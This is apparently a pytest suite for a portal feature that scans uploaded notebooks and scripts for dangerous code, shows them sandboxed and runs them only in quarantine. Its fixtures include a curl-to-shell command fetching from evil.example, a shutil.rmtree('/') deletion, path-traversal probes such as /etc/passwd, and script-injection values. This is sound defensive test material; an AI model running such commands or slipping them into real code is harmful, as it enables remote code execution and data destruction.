"""Open safely in the portal: a document named or uploaded, what it would do beside it, run only in quarantine."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from guard_parts import change_profile
from nbkeep.audit.search import Wanted, search
from nbkeep.model.actor import OPERATOR
from portal_parts import HOSTILE, SAME_ORIGIN
from release_parts import notebook
from render_parts import needs_a_jail

if TYPE_CHECKING:
    from httpx import Response

    from portal_parts import Person, Portal

pytestmark = needs_a_jail
PATH = "downloads/plan.ipynb"
HARMFUL = notebook(
    "import os\nos.system('curl -s https://evil.example/x | sh')", "open('data/train.csv').read()"
)


def uploaded(person: Person, name: str, data: bytes, **fields: str) -> Response:
    """Send the form with a file as a browser does."""
    return person.client.post(
        "/portal/open-safely", data={"csrf": person.csrf, **fields}, files={"file": (name, data)},
        headers=SAME_ORIGIN, follow_redirects=False,
    )  # fmt: skip


def looked_into(person: Person, path: str = PATH) -> str:
    """Have a file of the home looked into, and return the address of its page."""
    answer = person.client.post(
        "/portal/open-safely", data={"csrf": person.csrf, "path": path}, files={"file": ("", b"")},
        headers=SAME_ORIGIN, follow_redirects=False,
    )  # fmt: skip
    assert answer.status_code == 303, answer.text
    return answer.headers["location"].removeprefix("/portal")


def test_a_file_of_the_home_is_shown_beside_what_it_would_do(portal: Portal) -> None:
    """Cell and line of what is dangerous, what is ordinary apart from it, the document without its script."""
    jane = portal.person()
    portal.office.backend.held["jane", PATH] = HARMFUL
    assert f'value="{PATH}"' in jane.get(f"/open-safely?path={PATH}&session=ses_x"), (
        "prefilled from JupyterLab"
    )
    address = looked_into(jane)
    page = jane.get(address)
    assert 'data-verdict="dangerous"' in page
    assert "runs what it fetches from evil.example" in page
    assert "cell 1, line 2" in page
    assert page.index('data-weight="dangerous"') < page.index('data-weight="ordinary"')
    assert "reads data/train.csv" in page
    assert "sandbox" in page
    shown = jane.client.get(f"/portal{address}/document")
    assert shown.headers["content-security-policy"].startswith("sandbox; default-src 'none'")
    assert 'id="cell-1"' in shown.text
    assert "<script" not in shown.text.lower()
    assert "plan.ipynb" in jane.get("/open-safely"), "it is found again"


def test_an_uploaded_file_does_not_need_a_home(portal: Portal) -> None:
    jane = portal.person()
    answer = uploaded(jane, "C:\\x\\tool.py", b"import shutil\nshutil.rmtree('/')\n")
    assert answer.status_code == 303, answer.text
    page = jane.get(answer.headers["location"].removeprefix("/portal"))
    assert "tool.py" in page
    assert "deletes the whole folder /" in page


def test_what_a_document_is_called_and_says_never_becomes_a_page(portal: Portal) -> None:
    """Names, code and reasons are text, in list and page."""
    jane = portal.person()
    answer = uploaded(jane, "x.py", f"import os\nos.system({HOSTILE!r})\nopen({HOSTILE!r})\n".encode())
    page = jane.get(answer.headers["location"].removeprefix("/portal"))
    assert "<img src=x" not in page
    assert "<script>alert" not in page


def test_nobody_sees_what_somebody_else_had_looked_into(portal: Portal) -> None:
    """Page, document, run and forget answer alike for ids of others and for none."""
    jane, bob = portal.person(), portal.person("bob")
    portal.office.backend.held["jane", PATH] = HARMFUL
    address = looked_into(jane)
    for path in (address, f"{address}/document"):
        mine, none = (
            bob.client.get(f"/portal{one}")
            for one in (path, path.replace(path.split("/")[2], "ins_" + "0" * 20))
        )
        assert (mine.status_code, none.status_code) == (404, 404)
    assert bob.post(f"{address}/forget").status_code == 404
    assert bob.post(f"{address}/quarantine").status_code == 404
    assert "plan.ipynb" not in bob.get("/open-safely")
    jane.get(address)


def test_the_path_of_another_person_and_one_out_of_the_home_are_not_there(portal: Portal) -> None:
    jane, bob = portal.person(), portal.person("bob")
    portal.office.backend.held["jane", PATH] = HARMFUL
    for path, status in ((PATH, 404), ("../jane/" + PATH, 400), ("/etc/passwd", 400), ("~/../x", 400)):
        answer = uploaded(bob, "", b"", path=path)
        assert answer.status_code == status, (path, answer.status_code)
        assert "evil.example" not in answer.text
    assert 'name="path"' in jane.get("/open-safely")


def test_what_is_forgotten_is_gone_with_its_copies(portal: Portal) -> None:
    jane = portal.person()
    portal.office.backend.held["jane", PATH] = HARMFUL
    address = looked_into(jane)
    kept = portal.office.settings.documents_dir / "inspected"
    assert len([*kept.glob("??/*")]) == 2
    assert jane.post(f"{address}/forget").status_code == 303
    assert [*kept.glob("??/*")] == []
    assert jane.client.get(f"/portal{address}").status_code == 404


def test_a_week_later_it_is_forgotten_by_itself(portal: Portal) -> None:
    jane = portal.person()
    portal.office.backend.held["jane", PATH] = HARMFUL
    address = looked_into(jane)
    portal.office.clock.advance(8 * 86400)
    jane = portal.browser(jane.actor)
    assert jane.client.get(f"/portal{address}").status_code == 404
    uploaded(jane, "x.py", b"1")
    kept = portal.office.settings.documents_dir / "inspected"
    assert not any(one.read_bytes() == HARMFUL for one in kept.glob("??/*"))


def test_too_large_a_file_is_refused_before_it_is_taken(portal: Portal) -> None:
    jane = portal.person()
    answer = uploaded(jane, "x.py", b"#" * (17 << 20))
    assert answer.status_code == 400
    assert "16 MiB" in answer.text


def test_a_form_of_another_site_is_refused(portal: Portal) -> None:
    """A file is no way around the token of forms."""
    jane = portal.person()
    for headers, csrf in (
        ({"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site"}, jane.csrf),
        (SAME_ORIGIN, "x"),
    ):
        answer = jane.client.post(
            "/portal/open-safely", data={"csrf": csrf}, files={"file": ("x.py", b"1")}, headers=headers,
            follow_redirects=False,
        )  # fmt: skip
        assert answer.status_code == 403
    assert (
        portal.stranger()
        .post("/portal/open-safely", files={"file": ("x.py", b"1")}, follow_redirects=False)
        .status_code
        == 303
    )


def test_what_cannot_be_read_is_never_called_ordinary(portal: Portal) -> None:
    """Broken JSON, and bytes that are no document."""
    jane = portal.person()
    for name, data in (("x.ipynb", b'{"cells": ['), ("x.bin", bytes(range(256)) * 40)):
        page = jane.get(uploaded(jane, name, data).headers["location"].removeprefix("/portal"))
        assert 'data-verdict="ordinary"' not in page
        assert "no notebook" in page


def test_run_in_quarantine_gives_a_session_exactly_this_document(portal: Portal) -> None:
    """The button starts a session that was given the bytes that were looked into, and nothing else."""
    jane = portal.person()
    portal.office.backend.held["jane", PATH] = HARMFUL
    address = looked_into(jane)
    portal.office.backend.held["jane", PATH] = b"something else by now"
    assert "Run in quarantine" in jane.get(address)
    answer = jane.post(f"{address}/quarantine")
    assert answer.status_code == 303, answer.text
    session_id = answer.headers["location"].rpartition("/")[2].partition("?")[0]
    assert portal.office.backend.given == {(session_id, "plan.ipynb"): HARMFUL}


def test_without_a_profile_in_quarantine_there_is_no_such_button(portal: Portal) -> None:
    jane = portal.person()
    portal.office.backend.held["jane", PATH] = HARMFUL
    address = looked_into(jane)
    change_profile(portal.office, "quarantine", quarantine=False)
    assert "Run in quarantine" not in jane.get(address)
    assert jane.post(f"{address}/quarantine").status_code == 409


def test_where_sessions_share_one_origin_there_is_no_such_button(portal: Portal) -> None:
    """None is started in quarantine there: a button would end in that refusal."""
    jane = portal.person()
    portal.office.backend.held["jane", PATH] = HARMFUL
    address = looked_into(jane)
    portal.office.settings = replace(portal.office.settings, unsafe_shared_origin=True)
    assert "Run in quarantine" not in jane.get(address)
    answer = jane.post(f"{address}/quarantine")
    assert answer.status_code == 403
    assert "unsafe_shared_origin" in answer.text


def test_it_is_on_record_who_looked_at_what(portal: Portal) -> None:
    jane = portal.person()
    portal.office.backend.held["jane", PATH] = HARMFUL
    looked_into(jane)
    with portal.office.store.read() as tx:
        [event] = search(tx, OPERATOR, Wanted(type="document.inspected"), limit=10).records
    said = event["data"]
    assert (said["user"], said["path"], said["dangerous"] > 0) == ("jane", PATH, True)
